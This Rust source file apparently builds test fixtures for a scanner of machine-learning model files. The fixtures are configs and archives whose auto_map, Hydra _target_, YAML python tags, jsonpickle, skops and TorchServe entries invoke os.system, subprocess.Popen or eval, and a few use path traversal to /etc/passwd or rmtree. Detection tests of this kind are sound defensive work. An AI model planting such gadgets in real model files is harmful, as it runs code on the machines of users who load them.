//! More configurations and sources beside a model that name or hold code.

use serde_json::{Value, json};

use crate::model_files::case::{Case, Group};
use crate::model_files::pickle::{COMMAND, empty, system};
use crate::model_files::tar::tar_of;
use crate::model_files::torch::archive;
use crate::model_files::zip::zip_of;

const SOURCE: &str = "import os\n\nos.system('echo annex')\n";

/// All of them.
pub(crate) fn add(cases: &mut Vec<Case>) {
    hub(&mut Group::new("second-hub", cases));
    targets(&mut Group::new("second-targets", cases));
    servers(&mut Group::new("second-servers", cases));
}

fn put(group: &mut Group, trick: &str, file: &str, value: &Value) {
    group.named(trick, file, format!("{value:#}\n").into_bytes());
}

/// What the hub's libraries read.
fn hub(group: &mut Group) {
    let remote = || json!({"AutoModel": "modeling_annex.AnnexModel"});
    for (trick, file, value) in [
        ("generation", "generation_config.json", json!({"auto_map": remote()})),
        ("video-processor", "video_preprocessor_config.json", json!({"auto_map": remote()})),
        (
            "feature-extractor",
            "preprocessor_config.json",
            json!({"auto_map": {"AutoFeatureExtractor": "feature_annex.AnnexExtractor"}}),
        ),
        (
            "backbone",
            "config.json",
            json!({"model_type": "detr", "backbone_config": {"auto_map": remote()}}),
        ),
        (
            "quantizer",
            "config.json",
            json!({"model_type": "bert",
            "quantization_config": {"quant_method": "annex", "auto_map": remote()}}),
        ),
        (
            "kernel",
            "config.json",
            json!({"model_type": "llama", "_attn_implementation": "annex/attention"}),
        ),
        ("trusted-only", "config.json", json!({"model_type": "annex", "trust_remote_code": true})),
        (
            "list-of-classes",
            "tokenizer_config.json",
            json!({"auto_map":
            {"AutoTokenizer": [null, "annex/code--tokenization_annex.AnnexFast"]}}),
        ),
        (
            "parent-library",
            "adapter_config.json",
            json!({"peft_type": "LORA", "auto_mapping":
            {"base_model_class": "system", "parent_library": "os"}}),
        ),
        (
            "adapter-remote",
            "adapter_config.json",
            json!({"peft_type": "LORA", "base_model_name_or_path":
            "annex/base", "auto_map": remote()}),
        ),
        (
            "diffusers-builtins",
            "model_index.json",
            json!({"_class_name": "StableDiffusionPipeline",
            "safety_checker": ["builtins", "eval"]}),
        ),
        (
            "diffusers-os",
            "model_index.json",
            json!({"_class_name": "StableDiffusionPipeline",
            "unet": ["subprocess", "Popen"]}),
        ),
        (
            "diffusers-modular",
            "modular_model_index.json",
            json!({"_class_name": "ModularPipeline",
            "auto_map": {"ModularPipelineBlocks": "block.AnnexBlocks"}}),
        ),
        (
            "diffusers-component",
            "config.json",
            json!({"_class_name": "AnnexUNet",
            "auto_map": {"AutoModel": "unet_annex.AnnexUNet"}}),
        ),
        (
            "sentence-arguments",
            "sentence_bert_config.json",
            json!({"max_seq_length": 128,
            "model_args": {"trust_remote_code": true}}),
        ),
        (
            "sentence-module-os",
            "modules.json",
            json!([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
        ),
        (
            "sentence-module-remote",
            "modules.json",
            json!([{"idx": 0, "name": "0", "path": "", "type": "annex/code--custom_st.Transformer"}]),
        ),
        (
            "timm",
            "config.json",
            json!({"architecture": "annex", "model_args": {"auto_map": remote()}}),
        ),
        (
            "task-parameters",
            "config.json",
            json!({"model_type": "bert", "custom_pipelines":
            {"annex": {"impl": "annex/code--pipeline_annex.Pipeline"}}}),
        ),
        (
            "dataset-script",
            "dataset_infos.json",
            json!({"default": {"builder_name": "annex", "script": "annex.py",
            "trust_remote_code": true}}),
        ),
    ] {
        put(group, trick, file, &value);
    }
    group.named("jsonpickle", "model.json", format!(
        "{{\"py/reduce\": [{{\"py/function\": \"os.system\"}}, {{\"py/tuple\": [\"{COMMAND}\"]}}]}}\n"
    ).into_bytes());
    group.named(
        "jsonpickle-object",
        "state.json",
        br#"{"py/object": "subprocess.Popen", "args": "echo annex"}"#.to_vec(),
    );
    group.named(
        "jsonpickle-repr",
        "state.json",
        br#"{"py/repr": "os/os.system('echo annex')"}"#.to_vec(),
    );
    put(
        group,
        "langchain-template",
        "prompt.json",
        &json!({"_type": "prompt", "template_format": "jinja2",
        "input_variables": [], "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    );
    put(
        group,
        "mxnet-custom",
        "model-symbol.json",
        &json!({"nodes": [{"op": "Custom", "name": "a",
        "attrs": {"op_type": "annex_system"}, "inputs": []}], "arg_nodes": [], "heads": [[0, 0, 0]]}),
    );
}

/// Targets in YAML.
fn targets(group: &mut Group) {
    for (trick, file, text) in [
        ("hydra-alone", "config.yaml", "model:\n  _target_: os.system\n  command: echo annex\n"),
        (
            "hydra-list",
            "config.yaml",
            "callbacks:\n  - _target_: builtins.exec\n    _args_: ['1']\n",
        ),
        ("hydra-chain", "model.yaml", "a: {_target_: operator.attrgetter, _args_: [system]}\n"),
        (
            "hydra-flow",
            "train.yaml",
            "{trainer: {_target_: subprocess.call, args: [echo, annex]}}\n",
        ),
        (
            "hydra-get-object",
            "config.yaml",
            "a: {_target_: hydra.utils.get_object, path: os.system}\n",
        ),
        ("hydra-torch-load", "config.yaml", "a: {_target_: torch.load, f: /nonexistent/annex}\n"),
        (
            "hydra-numpy",
            "config.yaml",
            "a: {_target_: numpy.load, file: a.npy, allow_pickle: true}\n",
        ),
        ("hydra-pydoc", "config.yaml", "a: {_target_: pydoc.locate, _args_: [os.system]}\n"),
        (
            "hyperparameters-tag",
            "hparams.yaml",
            "a: !!python/object/apply:os.system [echo annex]\n",
        ),
        ("hyperparameters-module", "hparams.yaml", "a: !!python/module:antigravity\n"),
        ("tag-of-object", "params.yml", "!!python/object:subprocess.Popen {args: echo annex}\n"),
        ("tag-in-key", "params.yml", "? !!python/object/apply:os.system [echo annex]\n: 1\n"),
        (
            "tag-second-document",
            "params.yml",
            "a: 1\n---\n!!python/object/apply:os.system [echo annex]\n",
        ),
        (
            "tag-encoded",
            "params.yml",
            "a: !<tag:yaml.org,2002:python/object/appl%79:os.system> [echo annex]\n",
        ),
        ("ruby-tag", "params.yml", "a: !ruby/object:Gem::Installer\n  i: x\n"),
        (
            "java-tag",
            "params.yml",
            "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://annex.invalid']]\n",
        ),
        (
            "yolo-download",
            "data.yaml",
            "path: a\ntrain: images\nnames: {0: a}\ndownload: |\n  import os\n  os.system('echo annex')\n",
        ),
        (
            "yolo-layer",
            "yolo.yaml",
            "nc: 1\nbackbone:\n  - [-1, 1, \"__import__('os').system('echo annex')\", [64]]\nhead: []\n",
        ),
        ("interpolation", "config.yaml", "a: {_target_: \"${b}\"}\nb: os.system\n"),
        ("detectron", "model_zoo.yaml", "_BASE_: !!python/object/apply:eval ['1']\n"),
        (
            "haystack",
            "pipeline.yaml",
            "components:\n  a:\n    type: subprocess.Popen\n    init_parameters: {args: echo annex}\n",
        ),
    ] {
        group.named(trick, file, text.as_bytes().to_vec());
    }
    let nemo = |config: &str| {
        tar_of(&[
            ("model_config.yaml", config.as_bytes()),
            ("model_weights.ckpt", &archive("a", &empty(2))),
        ])
    };
    group
        .file("target-environment.nemo", nemo("a: \"${oc.env:HOME}\"\nm: {_target_: os.getenv}\n"));
    group.file(
        "target-lightning.nemo",
        nemo("trainer: {_target_: shutil.rmtree, path: /nonexistent/annex}\n"),
    );
    group.file("target-old-key.nemo", nemo("target: os.system\n"));
    group.file("class-path.nemo", nemo("cls: os.system\nparams: {command: echo annex}\n"));
    group.file(
        "tokenizer-pickle.nemo",
        tar_of(&[
            ("model_config.yaml", b"target: nemo.collections.nlp.models.Model\n"),
            ("tokenizer.pkl", &system(2)),
        ]),
    );
    group.file(
        "source-beside.nemo",
        tar_of(&[
            ("model_config.yaml", b"target: nemo.collections.nlp.models.Model\n"),
            ("annex.py", SOURCE.as_bytes()),
        ]),
    );
}

/// Serving: `TorchServe`, Triton, `MLflow`, `MLServer`.
fn servers(group: &mut Group) {
    put(
        group,
        "mlserver",
        "model-settings.json",
        &json!({"name": "annex", "implementation": "annex_runtime.Runtime"}),
    );
    put(
        group,
        "mlserver-os",
        "model-settings.json",
        &json!({"name": "annex", "implementation": "subprocess.Popen"}),
    );
    for (trick, file, text) in [
        (
            "mlflow-code",
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n",
        ),
        (
            "mlflow-code-paths",
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n    data: model.pkl\n    env: conda.yaml\n  sklearn:\n    code: ../../code\n",
        ),
        (
            "mlflow-custom-loader",
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: annex.loader\n",
        ),
        (
            "mlflow-data-outside",
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../../etc/passwd\n",
        ),
        (
            "triton-python",
            "config.pbtxt",
            "name: \"annex\"\nbackend: \"python\"\nparameters: {\n  key: \"EXECUTION_ENV_PATH\"\n  value: {string_value: \"/nonexistent/annex.tar.gz\"}\n}\n",
        ),
        (
            "caffe-python",
            "deploy.prototxt",
            "layer {\n  name: \"a\"\n  type: \"Python\"\n  python_param {\n    module: \"os\"\n    layer: \"system\"\n  }\n}\n",
        ),
        ("path-file", "annex.pth", "import os; os.system('echo annex')\n"),
    ] {
        group.named(trick, file, text.as_bytes().to_vec());
    }
    let manifest = |handler: &str| {
        format!(
            "{{\"runtime\": \"python\", \"model\": {{\"modelName\": \"annex\", \"handler\": \"{handler}\", \"serializedFile\": \"model.pt\"}}}}"
        )
    };
    let mar = |handler: &str, files: &[(&str, &[u8])]| {
        let manifest = manifest(handler);
        zip_of(&[&[("MAR-INF/MANIFEST.json", manifest.as_bytes())], files].concat())
    };
    group.file(
        "handler-in-folder.mar",
        mar("code/handler.py", &[("code/handler.py", SOURCE.as_bytes())]),
    );
    group.file("handler-missing.mar", mar("annex_handler.py", &[]));
    group.file(
        "setup-beside.mar",
        mar("image_classifier", &[("setup.sh", b"#!/bin/sh\necho annex\n")]),
    );
    group.file(
        "workflow.war",
        zip_of(&[
            (
                "WAR-INF/MANIFEST.json",
                b"{\"workflow\": {\"workflowName\": \"a\", \"handler\": \"handler.py\"}}",
            ),
            ("handler.py", SOURCE.as_bytes()),
        ]),
    );
    let node = |body: Value| zip_of(&[("schema.json", format!("{body:#}").as_bytes())]);
    let function = json!({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content":
        {"module_path": "os", "function": "system"}});
    for (trick, loader, class) in [
        ("partial", "PartialNode", "partial"),
        ("defaultdict", "DefaultDictNode", "defaultdict"),
        ("cached", "CachedNode", "A"),
        ("list", "ListNode", "list"),
    ] {
        let body = json!({"__class__": class, "__module__": "functools", "__loader__": loader,
            "content": [function], "protocol": 2, "_skops_version": "0.16.0"});
        group.file(&format!("skops-{trick}.skops"), node(body));
    }
}
